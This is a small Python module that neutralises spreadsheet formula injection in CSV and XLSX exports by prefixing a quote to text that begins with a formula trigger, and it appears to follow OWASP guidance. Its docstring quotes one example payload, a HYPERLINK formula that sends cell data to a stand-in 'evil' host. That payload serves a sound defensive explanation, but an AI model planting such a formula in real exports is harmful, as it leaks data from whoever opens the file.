"""Cells for CSV and XLSX exports that a spreadsheet will not run as formulas (CSV/formula injection).

A name such as `=HYPERLINK("http://evil/?"&A1,"Click")`, typed into a profile or a course title, would
otherwise be a live formula in the Excel file an officer opens. Every exporter passes text cells through
`safe_cell`, which prefixes a quote (the OWASP advice: Excel and LibreOffice then show the text as typed)
when the text starts with = + - @, a tab or a carriage return. Numbers, dates and None are returned as they
are, so numeric columns stay numeric (a negative number is a number, not a formula).
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value to write in a spreadsheet or CSV cell: text that could start a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values):
    """safe_cell over a row."""
    return [safe_cell(value) for value in values]
